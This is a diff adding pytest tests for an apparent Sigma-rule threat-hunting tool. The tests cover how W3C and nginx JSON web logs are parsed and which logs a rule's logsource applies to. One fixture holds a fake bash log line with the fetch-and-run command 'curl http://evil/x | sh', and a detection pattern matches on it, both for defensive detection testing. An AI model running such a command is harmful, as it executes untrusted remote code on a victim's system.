@@ -1,0 +1,59 @@
+"""Formats that change on the way, and which logs a Sigma rule is put to."""
+
+import pytest
+
+from hunting_evidence import hunted, put, told
+
+RULE = "title: r\nname: r\nlevel: high\nlogsource: {source}\ndetection:\n  a:\n{detection}\n  condition: a\n"
+
+
+def rule(source, detection):
+    return RULE.replace("{source}", source).replace("{detection}", detection)
+
+
+@pytest.mark.parametrize("times", [1, 20_000])
+def test_columns_that_change_within_a_w3c_log_are_read_by_the_names_that_hold_there(tmp_path, times):
+    first = "#Fields: date time cs-method cs-uri-stem sc-status c-ip\n2020-01-05 10:00:00 GET /one 200 192.0.2.9\n"
+    second = "#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status\n"
+    second += "2020-01-05 10:00:05 192.0.2.9 GET /two x=1 200\n"
+    put(
+        tmp_path / "pack", {"r.yml": rule("{category: webserver}", "    cs-uri-stem: [/one, /two]\n    sc-status: 200")}
+    )
+    put(tmp_path / "ev", {"u_ex200105.log": first * times + second + "#Remark\n" * times})
+    (line,) = told(hunted(tmp_path / "ev", tmp_path / "pack"))["rule"]
+    assert line["hits"] == times + 1
+
+
+def test_times_that_nginx_writes_into_json_are_read(tmp_path):
+    lines = [
+        '{"time_iso8601":"2020-01-05T11:00:00+01:00","remote_addr":"::1","request":"GET /x HTTP/1.1","status":"200"}',
+        '{"time_local":"05/Jan/2020:12:00:00 +0100","remote_addr":"::1","request":"GET /x HTTP/1.1","status":"404"}',
+    ]
+    put(tmp_path / "pack", {"r.yml": rule("{category: webserver}", "    cs-uri-stem: /x")})
+    put(tmp_path / "ev", {"access.json": "\n".join(lines) + "\n"})
+    findings = told(hunted(tmp_path / "ev", tmp_path / "pack"))["finding"]
+    assert [(one["time"], one["time_basis"], one["class"]) for one in findings] == [
+        ("2020-01-05T10:00:00Z", "offset", "lead"),
+        ("2020-01-05T11:00:00Z", "offset", "attempt"),
+    ]
+
+
+SHELL = 'Jan  5 10:00:00 <local7.notice> ns1 bash[12]: root on /dev/pts/0 shell_command="curl http://evil/x | sh"\n'
+
+
+@pytest.mark.parametrize(
+    ("source", "fires"),
+    [
+        ("{product: linux, service: bash}", True),
+        ("{product: linux}", True),
+        ("{product: citrix, category: appliance}", True),
+        ("{category: process_creation, product: linux}", True),
+        ("{service: made-up}", True),
+        ("{product: windows}", False),
+        ("{category: webserver}", False),
+    ],
+)
+def test_a_rule_is_put_to_every_log_that_its_source_may_mean(tmp_path, source, fires):
+    put(tmp_path / "pack", {"r.yml": rule(source, "    - 'curl http'")})
+    put(tmp_path / "ev", {"var/log/bash.log": SHELL})
+    assert ("finding" in told(hunted(tmp_path / "ev", tmp_path / "pack"))) is fires
